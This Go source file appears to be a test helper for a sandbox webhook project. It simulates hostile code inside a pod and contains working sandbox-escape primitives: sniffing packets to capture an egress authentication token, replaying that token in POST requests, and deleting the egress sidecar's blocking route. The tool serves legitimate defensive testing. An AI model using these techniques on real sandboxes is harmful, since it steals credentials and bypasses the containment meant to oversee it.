// peek is what hostile code in a sandbox tries, in the node's busybox
// image (/bin/peek), so that the real-node tests can show an attack
// working against one build and failing against another. Each command
// prints "peek: <command>: <result>" lines and exits 0 when the attempt
// succeeded, 1 when the kernel or the peer refused it.
//
//	peek caps                      the process's capability sets, named
//	                               (what `capsh --print` shows)
//	peek sniff PORT SECONDS        capture TCP packets to PORT in the pod's
//	                               network namespace (a packet socket, which
//	                               needs NET_RAW) and print the value of the
//	                               first OPENSANDBOX-EGRESS-AUTH header seen
//	                               as "token=<value>"
//	peek post URL TOKEN BODY       POST BODY to URL with that header
//	peek connect HOST:PORT SECONDS a TCP connection, and its outcome
//	peek unroute CIDR              delete the egress sidecar's prohibit
//	                               route to CIDR (needs NET_ADMIN)
package main

import (
	"bytes"
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"os"
	"strconv"
	"strings"
	"syscall"
	"time"

	"sandbox-webhook/tests/image/node/internal/route"
)

func main() {
	if len(os.Args) < 2 {
		fail("usage", "peek caps|sniff|post|connect|unroute ...")
	}
	cmd, args := os.Args[1], os.Args[2:]
	switch {
	case cmd == "caps":
		caps()
	case cmd == "sniff" && len(args) == 2:
		port, _ := strconv.Atoi(args[0])
		seconds, _ := strconv.Atoi(args[1])
		sniff(uint16(port), time.Duration(seconds)*time.Second)
	case cmd == "post" && len(args) == 3:
		post(args[0], args[1], args[2])
	case cmd == "connect" && len(args) == 2:
		seconds, _ := strconv.Atoi(args[1])
		connect(args[0], time.Duration(seconds)*time.Second)
	case cmd == "unroute" && len(args) == 1:
		unroute(args[0])
	default:
		fail("usage", "peek caps|sniff PORT SECONDS|post URL TOKEN BODY|connect HOST:PORT SECONDS|unroute CIDR")
	}
}

func say(cmd, format string, a ...any) {
	fmt.Printf("peek: %s: %s\n", cmd, fmt.Sprintf(format, a...))
}

func fail(cmd, format string, a ...any) {
	say(cmd, format, a...)
	os.Exit(1)
}

// The capabilities the tests look at, by bit (linux/capability.h).
var named = []struct {
	bit  uint
	name string
}{{12, "cap_net_admin"}, {13, "cap_net_raw"}, {19, "cap_sys_ptrace"}, {21, "cap_sys_admin"}}

func caps() {
	status, err := os.ReadFile("/proc/self/status")
	if err != nil {
		fail("caps", "%v", err)
	}
	for _, line := range strings.Split(string(status), "\n") {
		key, hex, ok := strings.Cut(line, ":")
		if !ok || !strings.HasPrefix(key, "Cap") {
			continue
		}
		mask, _ := strconv.ParseUint(strings.TrimSpace(hex), 16, 64)
		var held []string
		for _, c := range named {
			if mask&(1<<c.bit) != 0 {
				held = append(held, c.name)
			}
		}
		say("caps", "%s %s (%s)", key, strings.TrimSpace(hex), strings.Join(held, ","))
	}
}

// sniff reads IPv4 packets from a packet socket on every interface of the
// namespace and looks for the header in TCP payloads to port.
func sniff(port uint16, within time.Duration) {
	const ethPIP = 0x0800
	proto := int(htons(ethPIP))
	fd, err := syscall.Socket(syscall.AF_PACKET, syscall.SOCK_DGRAM, proto)
	if err != nil {
		fail("sniff", "packet socket: %v", err)
	}
	defer syscall.Close(fd)
	tv := syscall.Timeval{Sec: 1}
	_ = syscall.SetsockoptTimeval(fd, syscall.SOL_SOCKET, syscall.SO_RCVTIMEO, &tv)
	say("sniff", "packet socket open, reading TCP to port %d for %v", port, within)
	deadline := time.Now().Add(within)
	buf := make([]byte, 65536)
	packets := 0
	for time.Now().Before(deadline) {
		n, _, err := syscall.Recvfrom(fd, buf, 0)
		if err != nil {
			continue
		}
		packets++
		payload, ok := tcpPayload(buf[:n], port)
		if !ok {
			continue
		}
		if token, found := header(payload, "opensandbox-egress-auth"); found {
			say("sniff", "captured the probe's header after %d packets", packets)
			fmt.Printf("token=%s\n", token)
			return
		}
	}
	fail("sniff", "no header in %d packets", packets)
}

// tcpPayload is the payload of an IPv4 TCP packet to port.
func tcpPayload(p []byte, port uint16) ([]byte, bool) {
	if len(p) < 20 || p[0]>>4 != 4 || p[9] != syscall.IPPROTO_TCP {
		return nil, false
	}
	ihl := int(p[0]&0x0f) * 4
	if len(p) < ihl+20 || binary.BigEndian.Uint16(p[ihl+2:]) != port {
		return nil, false
	}
	off := ihl + int(p[ihl+12]>>4)*4
	if off > len(p) {
		return nil, false
	}
	return p[off:], true
}

// header finds "name: value" (any case) in an HTTP request's head.
func header(payload []byte, name string) (string, bool) {
	for _, line := range bytes.Split(payload, []byte("\r\n")) {
		k, v, ok := bytes.Cut(line, []byte(":"))
		if ok && strings.EqualFold(string(k), name) {
			return strings.TrimSpace(string(v)), true
		}
	}
	return "", false
}

func htons(v uint16) uint16 { return v<<8 | v>>8 }

func post(url, token, body string) {
	req, err := http.NewRequest(http.MethodPost, url, strings.NewReader(body))
	if err != nil {
		fail("post", "%v", err)
	}
	req.Header.Set("OPENSANDBOX-EGRESS-AUTH", token)
	resp, err := (&http.Client{Timeout: 5 * time.Second}).Do(req)
	if err != nil {
		fail("post", "%v", err)
	}
	defer resp.Body.Close()
	answer, _ := io.ReadAll(io.LimitReader(resp.Body, 4096))
	if resp.StatusCode != http.StatusOK {
		fail("post", "%s %d %s", url, resp.StatusCode, strings.TrimSpace(string(answer)))
	}
	say("post", "%s %d %s", url, resp.StatusCode, strings.TrimSpace(string(answer)))
}

func connect(addr string, within time.Duration) {
	c, err := net.DialTimeout("tcp", addr, within)
	if err != nil {
		fail("connect", "%s: %v", addr, err)
	}
	c.Close()
	say("connect", "%s: connected", addr)
}

func unroute(cidr string) {
	prefix, err := netip.ParsePrefix(cidr)
	if err != nil {
		fail("unroute", "%v", err)
	}
	if err := route.Allow(prefix); err != nil {
		fail("unroute", "%s: %v", cidr, err)
	}
	say("unroute", "%s: the sidecar's route is gone", cidr)
}
